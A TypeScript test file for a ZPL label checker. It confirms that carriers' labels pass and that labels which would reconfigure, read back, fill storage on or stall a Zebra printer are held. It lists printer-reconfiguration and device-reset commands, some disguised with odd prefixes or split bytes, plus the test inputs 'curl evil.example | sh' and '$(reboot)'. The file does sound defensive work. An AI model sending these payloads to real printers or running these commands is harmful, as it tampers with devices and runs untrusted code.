// The ZPL check: what is held, what passes, and how many labels come out.
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { checkZpl, inspectZpl, MAX_ZPL_BYTES } from '../../../main/labels/zpl/check-zpl.ts'
import { graphicField } from '../../../main/labels/zpl/graphic-field.ts'

const zpl = (text: string) => Buffer.from(text, 'latin1')
const field = '^FO10,10^A0N,20,20^FDHello^FS'
const codeOf = (text: string) => {
  const result = checkZpl(zpl(text))
  return result.ok ? 'passes' : result.problem.code
}
const labelsOf = (text: string) => {
  const result = checkZpl(zpl(text))
  return result.ok ? result.value.labelsPrinted : result.problem.code
}

describe('what carriers’ labels hold passes', () => {
  test.each([
    [
      'settings that last until power-off',
      `^XA~TA000~JSN^LT0^MNW^MTT^MMT^PON^PMN^LH0,0^JMA^PR4,4~SD15^LRN^CI0${field}^XZ`,
    ],
    ['width, length, darkness, speed', `^XA^PW812^LL1218^LS0^MD10^PR6,6,6^ML2000^MUD^JZY${field}^XZ`],
    ['a driver’s prefix reset', `CT~~CD,~CC^~CT~^XA${field}^XZ`],
    [
      'the same behind a byte order mark and for a second label',
      `\xef\xbb\xbfCT~~CD,~CC^~CT~\r\n^XA${field}^XZ\r\nCT~~CD,~CC^~CT~^XA${field}^XZ\r\n\x1a`,
    ],
    ['settings on lines before the first format', `~TA000\n~JSN\n^LT0\n^MNW\n~SD15\n^XA${field}^XZ`],
    ['a comment before the first format', `^FX made by hand, for the small printer\n^XA${field}^XZ`],
    [
      'a picture over many lines, before and behind a format',
      `~DGR:A.GRF,8,2,\nFFFF\n0000\n  FFFF\n0000\n^XA^FO1,1^XGR:A.GRF^FS^XZ\r\n~DGR:A.GRF,8,2,:B64:AbC/d+e=\n:5d72\n^XA^IDR:A.GRF^XZ`,
    ],
    [
      'a file that is one template: stored on a drive and filled in',
      `^XA^DFE:FORM.ZPL^FS${field}^FO9,9^FN1^FS^XZ^XA^XFE:FORM.ZPL^FS^FN1^FDx^FS^XZ`,
    ],
    [
      'a template with a logo of the job beside it',
      `^XA^DFR:LOGO.ZPL^FS${field}^XZ^XA^DFE:FORM.ZPL^FS${field}^XZ^XA^XFE:FORM.ZPL^FS^XFR:LOGO.ZPL^FS^XZ`,
    ],
    ['the same with DLE', `\x10CT~~CD,~CC^~CT~\n^XA${field}^XZ`],
    ['^MC ^SZ ^PO ^XB ^MF ^LH', `^XA^MCY^XZ^XA^SZ2^POI^XB^MFN,N^LH10,12${field}^MCY^XZ`],
    [
      'fonts, encodings and defaults',
      `^XA^CWW,E:ARI000.TTF^CI28^SEE:GB18030.DAT^CF0,30^FWN^BY3,2,100^FB400,2${field}^XZ`,
    ],
    ['counting fields', `^XA^FO1,1^SN001,1,Y^FS^FO1,40^FD001^SF%%d,1^FS${field}^XZ`],
    [
      'a picture stored, used and deleted',
      `~DGR:LOGO.GRF,8,2,FFFF0000FFFF0000^XA^FO1,1^XGR:LOGO.GRF,1,1^FS^XZ^XA^IDR:LOGO.GRF^FS^XZ`,
    ],
    [
      'the same with default device and extension',
      '~DGLOGO,8,2,FFFF0000FFFF0000^XA^FO1,1^XGLOGO^FS^IDLOGO^FS^XZ',
    ],
    [
      'a picture deleted before it is stored again',
      '^XA^IDR:X.GRF^FS^XZ~DGR:X.GRF,1,1,FF^XA^FO1,1^XGR:X.GRF^FS^XZ',
    ],
    ['a format stored and deleted', `^XA^DFR:T.ZPL^FS${field}^XZ^XA^XFR:T.ZPL^FS^XZ^XA^IDR:T.ZPL^XZ`],
    [
      'a PNG stored by ~DY and deleted',
      `~DYR:LOGO,P,P,8,,${'\x89PNG\r\n^~'}^XA^FO1,1^IMR:LOGO.PNG^FS^IDR:LOGO.PNG^XZ`,
    ],
    ['an image saved and deleted', `^XA${field}^ISR:FORM.GRF,Y^XZ^XA^ILR:FORM.GRF^FS^IDR:FORM.GRF^FS^XZ`],
    ['a prefix changed and put back', '^XA^CC-\n-FO1,1-FDa^b-FS-CC^^XZ'],
    ['a tilde that is text', '^XA^FO1,1^FD5~10 kg, ~ and ~- and a~^FS^XZ'],
    ['a barcode’s own escapes', '^XA^FO1,1^BXN,4,200,,,,~^FD~1~d029ABC~_^FS^XZ'],
    ['hexadecimal field data is data', '^XA^FO1,1^FH^FD_5EJUS _7EJR^FS^XZ'],
    ['comments', `^XA^FX JUS, NI and such, for your printer!^FS${field}^XZ`],
    ['an unknown format command', `^XA${field}^DN^XZ`],
    ['a byte order mark in the middle', `^XA${field}\xef\xbb\xbf^XZ`],
    ['binary pictures, whatever stands in them', `^XA^FO1,1^GFB,12,12,3,~JR^JUS~HS^XZ^FS${field}^XZ`],
    ['a maxicode’s separators as they are', '^XA^FO1,1^BD2^FD001840123450000[)>\x1e01\x1d961Z\x1e\x04^FS^XZ'],
    ['exclamation marks', '^XA^FO1,1^FDWow! U1 and ! 0 1 2^FS^FO1,30^GFA,4,4,2,!U\n0^FS^XZ'],
    ['control bytes as commands', `\x02${field}\x0f\x03`],
  ])('%s', (_, text) => {
    expect(codeOf(text)).toBe('passes')
  })
})

describe('what would change or question the printer is held, by name', () => {
  const inLabel = (command: string) => `^XA${field}${command}^XZ`
  test.each(
    [
      ['^JUS', '^JU'],
      ['^JUF', '^JU'],
      ['^KP1234', '^KP'],
      ['^KNSTATION', '^KN'],
      ['^KL2', '^KL'],
      ['^JB', '^JB'],
      ['^JI', '^JI'],
      ['^JT0100', '^JT'],
      ['^NIA', '^NI'],
      ['^NS1,10.0.0.1', '^NS'],
      ['^ND2,P', '^ND'],
      ['^NC1', '^NC'],
      ['^SC9600', '^SC'],
      ['^ST01,01,2026', '^ST'],
      ['^SX*,A', '^SX'],
      ['^SI1,2', '^SI'],
      ['^SS100', '^SS'],
      ['^SQA', '^SQ'],
      ['^WX09', '^WX'],
      ['^WE', '^WE'],
      ['^MPD', '^MP'],
      ['^MA1', '^MA'],
      ['^CMB', '^CM'],
      ['^TOE:A.GRF,R:B.GRF', '^TO'],
      ['^EG', '^EG'],
      ['^ROR1', '^RO'],
      ['~RO1', '~RO'],
      ['~JR', '~JR'],
      ['~JB', '~JB'],
      ['~NC1', '~NC'],
      ['~NR', '~NR'],
      ['~EG', '~EG'],
      ['^juS', '^JU'],
      ['^J\r\nUS', '^JU'],
      ['\x1eJUS', '^JU'],
      ['\x10JR', '~JR'],
      ['^CC!!JUS!CC^', '!JU = ^JU'],
      ['^CT+ +JR+CT~', '+JR = ~JR'],
      ['^FO1,1^FDtext ~JR text^FS', '~JR'],
      ['^FX comment ~JR^FS', '~JR'],
      ['^J\x00U\x7fS', '^JU'],
      ['~J\t\r\nR', '~JR'],
      ['\x1e\nJ\nUS', '^JU'],
      ['^CC\r\n!!JUS!CC^', '!JU = ^JU'],
      ['^FO1,1^GFB,9 ,9,1,^JUS', '^JU'],
      ['^FO1,1^GFB,9x,9,1,^JUS', '^JU'],
      ['^FO1,1^GFB,+9,9,1,^JUS', '^JU'],
      ['^FO1,1^GF B,9,9,1,^JUS', '^JU'],
      ['^EF', '^EF'],
      ['^DFE:AUTOEXEC.ZPL^FS', '^DF'],
      ['^FO1,1^GFB,2,2,1,xx^JUS', '^JU'],
    ].map(([command, name]) => ({ text: inLabel(command!), name })),
  )('$name in $text changes the printer', ({ text, name }) => {
    expect(checkZpl(zpl(text))).toMatchObject({
      ok: false,
      problem: { kind: 'unsafe-label', code: 'label.zpl-reconfigures', params: { command: name } },
    })
  })

  test.each([
    ['! U1 setvar "ip.addr" "10.0.0.1"\r\n', '! U1 SETVAR'],
    ['! U1 getvar "odometer.total_label_count"\r\n', '! U1 GETVAR'],
    ['! U1 do "device.reset" ""\r\n', '! U1 DO'],
    ['{}{"device.reset":""}', '! {}{'],
    ['{ }\r\n{"device.reset":""}', '! { }{'],
    ['! U1 set\nvar "ip.addr" "10.0.0.1"\r\n', '! U1 SETVAR'],
    ['!\r\nU1\tset\r\nvar "ip.addr" "10.0.0.1"\r\n', '! U1 SETVAR'],
    ['! U setvar "ip.addr" "10.0.0.1"\r\n', '! U SETVAR'],
    ['! CISDFCRC16\r\n', '! CISDFCRC16'],
    ['! DF RUN.BAT\r\n', '! DF'],
    ['! 0 200 200 210 1\r\n', '! 0 200 200'],
  ])('%s outside a format is obeyed, so it is held', (text, command) => {
    const expected = { ok: false, problem: { code: 'label.zpl-reconfigures', params: { command } } }
    expect(checkZpl(zpl(text))).toMatchObject(expected)
    expect(checkZpl(zpl(`^XA${field}^XZ\r\n${text}`))).toMatchObject(expected)
  })

  test.each([
    ['~DYE:CERT,C,NRD,4,,abcd', '~DY'],
    ['~DYE:AUTOEXEC,B,B,1,,a', '~DY'],
  ])('%s stores what is no picture and no font', (text, command) => {
    expect(checkZpl(zpl(`${text}^XA${field}^XZ`))).toMatchObject({
      ok: false,
      problem: { code: 'label.zpl-reconfigures', params: { command } },
    })
  })

  test.each(
    [
      ['^DFE:FORM.ZPL^FS', '^DF'],
      ['^DFE:FORM.ZPL^FS^XZ^XA^XFR:FORM.ZPL^FS', '^DF'],
      ['^dfe:form^FS', '^DF'],
      ['^DF E:FORM.ZPL^FS', '^DF'],
      ['^D\nF\r\nE\n:FORM.ZPL^FS', '^DF'],
      [`^DF${'\n'.repeat(600)}E:FORM.ZPL^FS`, '^DF'],
      ['^CD:^DFE:FORM.ZPL^FS^CD,', '^DF'],
      ['^DFB:FORM.ZPL^FS', '^DF'],
      ['^DFA:FORM.ZPL^FS', '^DF'],
      ['^DFZ:FORM.ZPL^FS', '^DF'],
      ['^ISE:FORM.GRF,N', '^IS'],
      ['~DGE:LOGO.GRF,1,1,FF', '~DG'],
      ['~DG\r\nE:LOGO.GRF,1,1,FF', '~DG'],
      ['~D\nGE:LOGO.GRF,1,1,FF', '~DG'],
      ['^DGE:LOGO.GRF,1,1,FF', '^DG'],
      ['~DYE:LOGO,A,G,1,1,FF', '~DY'],
      ['~DYB:LOGO,P,P,4,,\x89PNG', '~DY'],
      ['~DUE:ARIAL,2,FFFF', '~DU'],
      ['~DTE:ARIAL,2,FFFF', '~DT'],
      ['~DSE:FONT,2,FFFF', '~DS'],
      ['~DBE:FONT,N,5,24,3,10,2,X,#0025.5.16.2.5.18.FF', '~DB'],
      ['~DEE:TABLE,2,FFFF', '~DE'],
    ].map(([command, name]) => ({ text: inLabel(command!), name })),
  )('$name in $text is kept by the printer for good', ({ text, name }) => {
    expect(checkZpl(zpl(text))).toMatchObject({
      ok: false,
      problem: { kind: 'unsafe-label', code: 'label.zpl-writes-drive', params: { command: name } },
    })
    expect(codeOf(text.replace(/([A-Z])(\n?:)/gi, 'R$2'))).not.toBe('label.zpl-writes-drive')
  })

  const template = (name = 'E:A.ZPL', ink = field) =>
    `^XA^DF${name}^FS${ink}^XZ^XA^XF${name}^FS^FN1^FDx^FS^XZ`
  test.each([
    ['a second form', template() + template('E:B.ZPL')],
    ['the same form again', template() + template()],
    ['wildcards', template('E:*.*')],
    ['a wildcard in the name', template('E:A?.ZPL')],
    ['no name', template('E:')],
    ['another kind', template('E:A.GRF')],
    ['a program', template('E:A.BAS')],
    ['a card', template('A:A.ZPL')],
    ['another card', template('B:A.ZPL')],
    ['an odd spelling', template('E :A.ZPL')],
    ['a path', template('E:A/B.ZPL')],
    ['nothing drawn in it', template('E:A.ZPL', '')],
    ['a label beside it', `${template()}^XA${field}^XZ`],
    ['a label before it', `^XA${field}^XZ${template()}`],
    ['no label printed from it', `^XA^DFE:A.ZPL^FS${field}^XZ`],
    ['another form printed', `^XA^DFE:A.ZPL^FS${field}^XZ^XA^XFR:A.ZPL^FS^XZ`],
    ['no format around it', `^DFE:A.ZPL^FS^XA${field}^XZ^XA^XFE:A.ZPL^FS^XZ`],
  ])('a form that a file keeps on a drive is held with %s', (_, text) => {
    expect(codeOf(text)).toBe('label.zpl-writes-drive')
  })

  test.each(['E:FORM.ZPL', 'e:form', 'E:SHIP_4-6.zpl'])(
    'a file that is one template %s passes, and a service’s label that is one does not',
    name => {
      for (const ink of [field, '^FO1,1^A0N,20,20^FN1^FS']) {
        const job = `${template(name, ink)}^XA^XF${name}^FS^FN1^FDy^FS^XZ`
        expect(codeOf(job)).toBe('passes')
        expect(checkZpl(zpl(job), 'service')).toMatchObject({
          problem: { code: 'label.zpl-writes-drive', params: { command: '^DF' } },
        })
      }
    },
  )

  test.each([
    '^PP',
    '^pp',
    '^P\nP',
    '^JZN',
    '^JZ\r\nn',
    '^PQ1,1',
    '^PQ10,2,0,N',
    '^PQ10, 02',
    '^CD;^PQ2;1^CD,',
  ])('%s leaves the printer waiting, or a label unprinted', command => {
    expect(codeOf(inLabel(command))).toBe('label.zpl-interferes')
  })

  test.each(['^JZY', '^JZ', '^PQ1', '^PQ2,0,1,Y', '^PQ1,0,0,N', '^PQ2,,1', '^PQ2,1,0,Y'])(
    '%s goes on printing',
    command => {
      expect(codeOf(inLabel(command))).toBe('passes')
    },
  )

  test.each(['~HS', '~HI', '~HQES', '~HM', '~HDR:', '^HH', '^HW*:*', '^HZa', '^HV1,5', '^HFE:A.ZPL'])(
    '%s reads the printer back',
    command => {
      expect(codeOf(inLabel(command))).toBe('label.zpl-reads-back')
    },
  )

  test.each(['^LF', '^WDR:*.GRF', '~WC', '~WL'])('%s prints a paper of its own', command => {
    expect(codeOf(inLabel(command))).toBe('label.zpl-prints-other')
  })

  test.each(['~JA', '~JP', '~PP', '~PS', '~PR', '~JC', '~JX', '~JD'])('%s acts on other jobs', command => {
    expect(codeOf(inLabel(command))).toBe('label.zpl-interferes')
  })

  test.each([
    ['^IDR:LOGO.GRF', '^IDR:LOGO.GRF'],
    ['^IDlogo', '^IDlogo'],
    ['^ID', '^ID'],
    ['^CC+FX+IDR:LOGO.GRF+CC^', '+ID = ^IDR:LOGO.GRF'],
  ])('%s is named as the label has it', (command, named) => {
    const { findings } = inspectZpl(zpl(`^XA${field}${command}^FS^XZ`), 'file')
    expect(findings).toMatchObject([{ code: 'label.zpl-deletes', params: { command: named } }])
  })

  test.each(['~ZZ', '~QQ1', '~xy', '^FO1,1^FDA~Bcd^FS'])('%s: no control command that we know', command => {
    expect(codeOf(inLabel(command))).toBe('label.zpl-unknown-control')
  })

  test.each(['^IDR:*.*', '^IDR:LOGO.GRF', '^IDE:LOGO.GRF', '^IDR:X*.GRF', '^ID', '^IDR:X.ZPL'])(
    '%s deletes what this job did not store',
    command => {
      expect(codeOf(`~DGR:X.GRF,1,1,FF^XA${field}${command}^FS^XZ`)).toBe('label.zpl-deletes')
    },
  )

  test.each(['^XA^CC-', '^XA^CT-^XZ', '^XA^CD;^XZ', '~CC!', '^XA^CC-\n-FO1,1-FDx-FS-XZ'])(
    '%s leaves a prefix changed',
    text => {
      expect(inspectZpl(zpl(text), 'file').findings.map(finding => finding.code)).toContain(
        'label.zpl-prefix-left',
      )
    },
  )

  test.each([
    '^XA^FO1,1^FDx',
    `^XA${field}^XZ^XA`,
    '^XA^FO1,1^GFB,900,900,3,abc^FS^XZ',
    '~DYR:A,B,B,99,,x^XA^XZ',
    `^XA${field}^XZ^CC`,
    `^XA${field}^XZ~CT\r\n`,
  ])('%s does not end: the printer would eat the next label', text => {
    expect(codeOf(text)).toBe('label.zpl-unfinished')
  })

  const DOTS = { widthDots: 16, heightDots: 2, rowBytes: 2, data: Buffer.from('ff00ff00', 'hex') }
  const Z64 = graphicField(DOTS, 'z64').split(',').at(-1)!
  const picture = (data: string) => `^XA${field}^FO1,1^GFA,4,4,2,${data}^FS^XZ`
  test.each([
    ['with another check', picture(`${Z64.slice(0, -4)}0000`)],
    ['cut off in its check', picture(Z64.slice(0, -2))],
    ['cut off in its data', picture(Z64.slice(0, -9))],
    ['with a letter changed', picture(Z64.replace(/A/, 'B'))],
    ['that is stored', `~DGR:A.GRF,4,2,${Z64.slice(0, -4)}0000^XA${field}^FO1,1^XGR:A.GRF^FS^XZ`],
    ['with another delimiter', `^XA^CD;^FO1;1^GFA;4;4;2;${Z64.slice(0, -4)}0000^FS^CD,^XZ`],
    ['in B64', picture(':B64:/wD/AA==:0000')],
    ['in digits, with a row too few', picture('FF00')],
    ['in digits, each row ended by a comma, with one too few', picture('FF,')],
    ['stored in digits, with a row too few', `~DGR:A.GRF,4,2,FF00^XA${field}^FO1,1^XGR:A.GRF^FS^XZ`],
    ['without digits', picture('')],
  ])('a picture %s would be left out by the printer', (_, text) => {
    expect(codeOf(text)).toBe('label.zpl-picture-damaged')
  })

  test.each([
    ['as it is', picture(Z64)],
    ['on lines of its own', picture(`\r\n${Z64.replace(/(.{9})/g, '$1\r\n')}\r\n`)],
    ['in small letters of its check', picture(Z64.replace(/....$/, check => check.toLowerCase()))],
    ['stored', `~DGR:A.GRF,4,2,${Z64}^XA${field}^FO1,1^XGR:A.GRF^FS^XZ`],
    ['in digits', picture('FF00FF00')],
    ['in digits that are packed', picture('HFI0:')],
    ['in digits, with its last row begun', picture('FF00FF')],
    ['in digits, with more than it says', picture('FF00FF00FF')],
    ['in digits, stored', `~DGR:A.GRF,4,2,FF,!^XA${field}^FO1,1^XGR:A.GRF^FS^XZ`],
  ])('a picture passes %s', (_, text) => {
    expect(codeOf(text)).toBe('passes')
  })

  test('the first finding is told with its place, the others are counted', () => {
    expect(checkZpl(zpl(`^XA\n${field}\n  ^KP1\n~JR^XZ`))).toMatchObject({
      ok: false,
      problem: {
        params: { command: '^KP', line: 3, byte: 36, others: 1 },
        message: 'The label would change the printer’s settings permanently (^KP, line 3).',
      },
    })
  })

  test('more than 4 MiB is not looked at', () => {
    expect(checkZpl(new Uint8Array(MAX_ZPL_BYTES + 1))).toMatchObject({
      ok: false,
      problem: { kind: 'too-large' },
    })
  })
})

describe('text outside formats', () => {
  const TEXTS = [
    'curl evil.example | sh\n',
    '$(reboot)',
    'N\nA50,50,0,4,1,1,N,"EPL"\nP1\n',
    'SIZE 4,6\nCLS\nPRINT 1\n',
    '\x1b%-12345X@PJL SET X=1\r\n',
    '\x1bi',
    '{"device.reset":""}',
    '<?xml version="1.0"?>',
    '! ',
    'CT~',
    '~',
    '^ ^',
    '~ JR',
    'x',
    '\xe9',
  ]
  test.each(TEXTS)('%j is found before, between and behind formats, and behind what stands there', text => {
    const format = `^XA${field}^XZ`
    for (const place of [
      `${text}${format}`,
      `\r\n ${text} ${format}`,
      `${format}${text}${format}`,
      `${format}\r\n${text}`,
      `~TA000\n${text}${format}`,
      `~DGR:A.GRF,2,1,FFFF\n${text} and more\n${format}`,
      `^FX comment\n${text}${format}`,
      `^CC!!CC^${text}${format}`,
      `\x02${field}\x03${text}${format}`,
      `^FS${text}${format}`,
    ]) {
      const { looseText } = inspectZpl(zpl(place), 'file')
      expect(looseText.length, place).toBeGreaterThan(0)
      const prepared = checkZpl(zpl(place))
      expect(prepared, place).toMatchObject({ ok: false, problem: { kind: 'unsafe-label' } })
    }
  })

  test('is told with its line', () => {
    expect(checkZpl(zpl(`^XA${field}^XZ\n\nls\n^XA${field}^XZ`))).toMatchObject({
      ok: false,
      problem: { code: 'label.zpl-loose-text', params: { line: 3 } },
    })
  })

  test('inside a format it is a printer’s to pass over', () => {
    expect(codeOf(`^XA\ncomment\n${field}\nmore\n^XZ`)).toBe('passes')
  })
})

describe('how many labels a job prints', () => {
  test.each([
    ['one format', `^XA${field}^XZ`, 1],
    ['two formats', `^XA${field}^XZ\n^XA${field}^XZ`, 2],
    ['copies', `^XA${field}^PQ3,0,1,Y^XZ`, 3],
    ['the last quantity counts', `^XA^PQ5${field}^PQ2^XZ`, 2],
    ['each format has its own quantity', `^XA${field}^PQ3^XZ^XA${field}^XZ`, 4],
    ['no quantity, or none that makes sense', `^XA${field}^PQ^XZ^XA${field}^PQ0^XZ^XA${field}^PQx^XZ`, 3],
    ['a stored format prints nothing by itself', `^XA^DFR:A.ZPL^FS${field}^XZ`, 0],
    ['a recalled format prints', `^XA^DFR:A.ZPL^FS${field}^XZ^XA^XFR:A.ZPL^FS^FN1^FDx^FS^XZ`, 1],
    ['a recalled format brings its quantity', `^XA^DFR:A.ZPL^FS${field}^PQ4^XZ^XA^XFR:A^FS^XZ`, 4],
    ['a format of settings prints nothing', `^XA^MCY^XZ^XA${field}^XZ^XA^IDR:A.GRF^XZ~DGR:A.GRF,1,1,FF`, 1],
    ['an empty format prints nothing', '^XA^XZ', 0],
    ['a picture alone prints', '^XA^FO1,1^GFA,1,1,1,FF^FS^XZ', 1],
    ['a format begun twice prints once', `^XA^LL1520^XA${field}^XZ`, 1],
    ['an end without a beginning prints nothing', `${field}^XZ`, 0],
    ['what stands in a binary picture does not count', `^XA^FO1,1^GFB,9,9,1,^PQ9^XZ^A^FS^XZ`, 1],
    ['changed prefixes', '^XA+FO1,1^CC+ +FD+PQ2+CC^^XZ', 2],
    ['control bytes', `\x02^PQ2${field}\x03`, 2],
  ])('%s', (_, text, labels) => {
    expect(labelsOf(text)).toBe(labels)
  })

  test('a roll of labels is held', () => {
    expect(codeOf(`^XA${field}^PQ99999999^XZ`)).toBe('label.zpl-too-many')
  })

  test('nothing on paper is said', () => {
    const result = checkZpl(zpl('^XA^MCY^XZ'))
    expect(result).toMatchObject({
      ok: true,
      value: { formats: 0, warnings: [{ code: 'label.prints-nothing' }] },
    })
  })
})

test('any text that we would never hold stays unheld when put through hexadecimal, and no input makes it throw', () => {
  const alphabet = fc.constantFrom(
    '^',
    '~',
    'X',
    'A',
    'Z',
    'J',
    'U',
    'C',
    'D',
    'F',
    'G',
    'B',
    ',',
    '5',
    '\n',
    '\x02',
    '\x10',
    '!',
  )
  fc.assert(
    fc.property(fc.array(alphabet, { maxLength: 200 }), letters => {
      const report = inspectZpl(zpl(letters.join('')), 'file')
      expect(report.labelsPrinted).toBeGreaterThanOrEqual(0)
      for (const { params } of report.findings) expect(params.line).toBeGreaterThan(0)
    }),
    { numRuns: 500 },
  )
})

test.each([
  ['^CC!!XA!JUF!FO9,9!A0N,20!FDx!FS!XZ!CC^', '!JU = ^JU'],
  ['^CT+^XA+JR^FO9,9^A0N,20^FDx^FS^XZ^CT~', '+JR = ~JR'],
  ['^XA^juF^FO9,9^A0N,20^FDx^FS^XZ', '^JU'],
  ['^XA\x1eJUF^FO9,9^A0N,20^FDx^FS^XZ', '^JU'],
])('a command behind another sign than usual is named as the label has it: %j', (text, command) => {
  const checked = checkZpl(Buffer.from(text, 'latin1'))
  expect(checked).toMatchObject({ ok: false, problem: { params: { command } } })
})
